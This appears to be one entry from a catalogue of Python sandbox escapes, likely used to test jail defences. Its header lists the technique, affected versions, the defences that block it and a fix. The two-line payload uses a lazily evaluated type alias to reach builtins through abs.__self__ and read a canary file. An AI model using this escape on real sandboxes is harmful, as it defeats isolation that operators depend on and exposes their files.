# id: lazy-annotation-scope
# family: syntax-and-filters
# kind: escape
# invariant: D, E
# origin: a contest jail that reached for evaluate_value
# technique: a type alias keeps its value as a hidden function, which runs later, when someone reads the attribute
# needs: 3.12+
# pythons: 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

type Alias = print(abs.__self__.open("canary.txt").read())
Alias.__value__
